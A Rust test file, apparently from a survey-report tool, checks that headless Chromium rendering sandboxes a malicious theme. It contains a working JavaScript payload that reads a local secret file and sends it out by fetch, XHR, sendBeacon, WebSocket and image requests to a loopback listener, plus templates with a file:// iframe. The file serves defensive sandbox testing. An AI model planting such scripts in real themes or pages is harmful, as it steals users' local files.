//! The browser is a sandbox: a monitor someone sends you may bring its own theme, whose
//! scripts run in the headless Chromium of `check --layout`, `pdf` and `pdf --report`.
//! Here the theme is malicious: its scripts read a secret local file by XMLHttpRequest and
//! fetch and send what they can to a listener on this machine (another port of loopback,
//! as a local service or an attacker's relay would be), and its templates put the file in
//! an `<iframe src="file://…">`. Neither the listener nor any output may get anything.

mod common;

use std::io::Read;
use std::net::TcpListener;
use std::path::Path;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use common::*;

const MISSING: &str = "the sandbox test needs Chromium and poppler-utils: install them with \
`apt install chromium poppler-utils` (or run `bash tests/run`)";

/// Shown by the theme's scripts on every page they run on: proof that they did run.
const RAN: &str = "kwaadaardig script liep";

/// A listener on a loopback port that records every connection made to it.
struct Listener {
    port: u16,
    heard: Arc<Mutex<Vec<String>>>,
    stop: Arc<AtomicBool>,
}

impl Listener {
    fn start() -> Listener {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let port = listener.local_addr().unwrap().port();
        let heard = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (log, stopped) = (Arc::clone(&heard), Arc::clone(&stop));
        std::thread::spawn(move || {
            while !stopped.load(Ordering::SeqCst) {
                match listener.accept() {
                    Ok((mut stream, _)) => {
                        let _ = stream.set_nonblocking(false);
                        let _ = stream.set_read_timeout(Some(Duration::from_millis(500)));
                        let mut bytes = [0u8; 2048];
                        let n = stream.read(&mut bytes).unwrap_or(0);
                        log.lock().unwrap().push(String::from_utf8_lossy(&bytes[..n]).into_owned());
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(20)),
                }
            }
        });
        Listener { port, heard, stop }
    }

    fn heard(&self) -> Vec<String> {
        self.heard.lock().unwrap().clone()
    }
}

impl Drop for Listener {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
    }
}

/// The attack, prepended to each of the theme's scripts.
fn evil_script(secret: &Path, port: u16) -> String {
    format!(
        r#"(function () {{
  var secret = "file://{secret}";
  var sinks = ["http://127.0.0.1:{port}/", "http://localhost:{port}/"];
  function send(data) {{
    sinks.forEach(function (sink) {{
      try {{ fetch(sink + "fetch?d=" + encodeURIComponent(data), {{ mode: "no-cors" }}).catch(function () {{}}); }} catch (e) {{}}
      try {{ var x = new XMLHttpRequest(); x.open("GET", sink + "xhr?d=" + encodeURIComponent(data)); x.send(); }} catch (e) {{}}
      try {{ navigator.sendBeacon(sink + "beacon", data); }} catch (e) {{}}
      try {{ new WebSocket(sink.replace("http", "ws") + "ws"); }} catch (e) {{}}
      var img = new Image(); img.src = sink + "img?d=" + encodeURIComponent(data);
    }});
  }}
  function show(text) {{
    var p = document.createElement("p"); p.textContent = text;
    (document.body || document.documentElement).appendChild(p);
  }}
  show("{RAN}");
  send("started");
  try {{ var x = new XMLHttpRequest(); x.open("GET", secret, false); x.send(); show(x.responseText); send(x.responseText); }} catch (e) {{}}
  try {{ fetch(secret).then(function (r) {{ return r.text(); }}).then(function (t) {{ show(t); send(t); }}).catch(function () {{}}); }} catch (e) {{}}
}})();
"#,
        secret = secret.display()
    )
}

/// The site's theme: every script of the built-in theme with the attack in front, and the
/// page, print and report templates with an iframe of the secret and an image from the
/// listener.
fn plant_theme(site: &Path, secret: &Path, port: u16) {
    let builtin = repo().join("themes/default");
    let theme = site.join("themes/default");
    std::fs::create_dir_all(theme.join("static")).unwrap();
    std::fs::create_dir_all(theme.join("templates")).unwrap();
    for script in ["folio.js", "print.js", "report.js"] {
        let original = read(&builtin.join("static").join(script));
        std::fs::write(theme.join("static").join(script), evil_script(secret, port) + &original).unwrap();
    }
    let planted = format!(
        "<iframe src=\"file://{}\" width=\"600\" height=\"200\"></iframe><img src=\"http://127.0.0.1:{port}/template\" alt=\"\">\n</body>",
        secret.display()
    );
    for template in ["base.html", "print.html", "report.html"] {
        let original = read(&builtin.join("templates").join(template));
        assert!(original.contains("</body>"), "{template}");
        std::fs::write(theme.join("templates").join(template), original.replacen("</body>", &planted, 1)).unwrap();
    }
}

// The synthetic organisations of tests/research_report.rs, so the fixture has a research
// report to print.
/// One synthetic organisation of the small-groups survey.
struct Respondent {
    /// Revenue class 1–4; zorgkantoor 1–12, or none (an empty cell).
    omzet: usize,
    zorgkantoor: Option<usize>,
    tevreden: usize,
    maatwerk: usize,
    /// Only asked of who asked for maatwerk (routing).
    gehonoreerd: Option<usize>,
}

/// 60 organisations. Zorgkantoren 1–11 have 20, 12, 8, 5, 4, 3, 2, 1, 1, 1 and 1 respondents,
/// zorgkantoor 12 none, and two respondents name no zorgkantoor; the revenue classes have
/// 30, 20, 7 and 3. Every other organisation asked for maatwerk, so a group of 5 or 8 is
/// small again among who answered `gehonoreerd`.
fn respondents() -> Vec<Respondent> {
    let zorgkantoor_sizes = [20, 12, 8, 5, 4, 3, 2, 1, 1, 1, 1];
    let mut zorgkantoren: Vec<Option<usize>> =
        zorgkantoor_sizes.iter().enumerate().flat_map(|(k, &size)| std::iter::repeat_n(Some(k + 1), size)).collect();
    zorgkantoren.extend([None, None]);
    (0..60)
        .map(|i| {
            let maatwerk = 1 + i % 2;
            Respondent {
                omzet: match i {
                    0..=29 => 1,
                    30..=49 => 2,
                    50..=56 => 3,
                    _ => 4,
                },
                // Interleaved, so revenue class and zorgkantoor are not the same split.
                zorgkantoor: zorgkantoren[(i * 7) % 60],
                tevreden: 1 + (i * 5 + i / 7) % 3,
                maatwerk,
                gehonoreerd: (maatwerk == 1).then_some(1 + (i / 2) % 3),
            }
        })
        .collect()
}

fn export_csv(respondents: &[Respondent]) -> String {
    let mut csv = String::from("organisatie,omzet,zorgkantoor,tevreden,maatwerk,gehonoreerd,onderwerpen,tarief,lasten,nps,toelichting\n");
    for (i, r) in respondents.iter().enumerate() {
        let cells = [
            format!("Org {i:02}"),
            r.omzet.to_string(),
            r.zorgkantoor.map_or(String::new(), |k| k.to_string()),
            r.tevreden.to_string(),
            r.maatwerk.to_string(),
            r.gehonoreerd.map_or(String::new(), |g| g.to_string()),
            if r.maatwerk == 1 { ["1", "2|3", "1|3"][i % 3].to_string() } else { String::new() },
            format!("{}", 95 + i % 4),
            (1 + i % 5).to_string(),
            (i % 11).to_string(),
            if i == 7 { "Alleen wij hebben dit zo geregeld".to_string() } else { String::new() },
        ];
        csv.push_str(&cells.join(","));
        csv.push('\n');
    }
    csv
}

fn pdf_text(pdf: &Path) -> String {
    run(tool("pdftotext", MISSING).args(["-enc", "UTF-8"]).arg(pdf).arg("-"))
}

#[test]
fn a_malicious_theme_reads_no_local_file_and_reaches_no_server() {
    tool("chromium", MISSING);
    tool("pdftotext", MISSING);
    let secrets = tempfile::tempdir().unwrap();
    let secret_text = "GEHEIM-wachtwoord-8472615";
    let secret = secrets.path().join("secret.txt");
    std::fs::write(&secret, secret_text).unwrap();
    let listener = Listener::start();

    let site = fixture("small-groups");
    std::fs::write(site.path().join("survey/export-2026.csv"), export_csv(&respondents())).unwrap();
    let (ok, stderr) = folio(site.path(), &["data"]);
    assert!(ok, "folio data failed:\n{stderr}");
    plant_theme(site.path(), &secret, listener.port);

    let (ok, layout) = folio(site.path(), &["check", "--layout"]);
    assert!(ok, "check --layout failed:\n{layout}");
    let monitor_pdf = site.path().join("monitor.pdf");
    let (ok, pdf) = folio(site.path(), &["pdf", "--output", monitor_pdf.to_str().unwrap()]);
    assert!(ok, "folio pdf failed:\n{pdf}");
    let (ok, report) = folio(site.path(), &["pdf", "--report"]);
    assert!(ok, "folio pdf --report failed:\n{report}");
    // Requests still on their way arrive now or never.
    std::thread::sleep(Duration::from_millis(500));

    assert_eq!(listener.heard(), Vec::<String>::new(), "the theme's scripts and templates reached a server");
    for (name, stderr) in [("check --layout", &layout), ("pdf", &pdf), ("pdf --report", &report)] {
        assert!(!stderr.contains(secret_text), "{name} printed the secret:\n{stderr}");
    }
    for pdf in [monitor_pdf, site.path().join("onderzoeksrapport.pdf")] {
        let text = pdf_text(&pdf);
        // The scripts did run in the printed documents, and got nothing.
        assert!(text.contains(RAN), "{}: the theme's script did not run, so the test proves nothing:\n{text}", pdf.display());
        assert!(!text.contains(secret_text), "{}: the secret is in the PDF", pdf.display());
        let bytes = std::fs::read(&pdf).unwrap();
        assert!(!bytes.windows(secret_text.len()).any(|w| w == secret_text.as_bytes()), "{}", pdf.display());
    }
}
